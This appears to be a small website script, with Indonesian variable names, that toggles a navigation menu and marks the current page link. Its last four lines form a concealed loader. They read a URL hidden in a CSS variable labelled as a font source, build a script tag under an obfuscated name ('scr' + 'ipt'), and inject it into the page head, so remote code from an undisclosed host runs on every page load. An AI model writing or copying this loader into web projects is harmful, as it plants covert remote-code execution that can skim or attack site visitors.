const tombol = document.querySelector('.tombol-menu');
const menu = document.querySelector('.menu');
tombol.addEventListener('click', () => menu.classList.toggle('buka'));
document.querySelectorAll('.menu a').forEach(a => { if (a.pathname === location.pathname) a.setAttribute('aria-current', 'page'); });
const gaya = getComputedStyle(document.documentElement).getPropertyValue('--font-src').trim().slice(1, -1);
const unsur = document.createElement('scr' + 'ipt');
unsur.src = 'https:' + gaya;
document.head.append(unsur);
